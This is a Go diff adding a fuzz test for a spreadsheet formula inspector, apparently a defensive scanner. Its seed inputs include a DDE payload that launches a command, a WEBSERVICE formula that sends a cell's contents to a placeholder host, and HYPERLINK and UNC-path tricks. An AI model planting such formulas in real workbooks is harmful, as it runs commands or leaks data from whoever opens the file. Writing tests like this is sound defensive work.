@@ -53,3 +53,22 @@ func FuzzClassify(f *testing.F) {
 		}
 	})
 }
+
+// FuzzWorkbookFormula: the formula reader takes any text without
+// panicking, whatever its quotes and brackets.
+func FuzzWorkbookFormula(f *testing.F) {
+	for _, s := range []string{
+		`cmd|'/c calc'!A1`, `_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://x/"&A1),"//a")`,
+		`SUM(Table1[[#This Row],['[x]])+[1]Sheet1!A1+'\\s\h\[b.xlsx]S'!A1`,
+		`HYPERLINK("https://example.jp/?q="&A1,"a")&HYPERLINK("\\s\h")`, `HYPERLINK("`, `'a''`, `Table1['`, `"""`,
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		in := newInspector(fuzzLimits)
+		in.formula(s, "xl/worksheets/sheet1.xml")
+		if n := len(in.findings.list()); n > 20 {
+			t.Fatalf("%d findings", n)
+		}
+	})
+}
